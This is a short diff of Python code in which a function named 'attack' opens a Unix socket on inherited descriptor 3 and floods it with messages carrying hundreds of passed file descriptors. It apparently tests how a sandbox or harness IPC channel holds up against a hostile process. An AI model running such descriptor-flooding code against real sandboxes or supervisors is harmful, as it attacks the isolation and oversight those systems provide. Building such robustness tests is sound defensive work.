@@ -18,7 +18,7 @@ def breach(detail):
 
 def attack(observation):
     import array, os, socket
-    channel = socket.socket(fileno=os.dup(3))
+    channel = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET, 0, 3)
     for _ in range(300):
         try: channel.sendmsg([b'{"q":2,"a":0}'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1, 3] * 100))], socket.MSG_DONTWAIT)
         except OSError: break
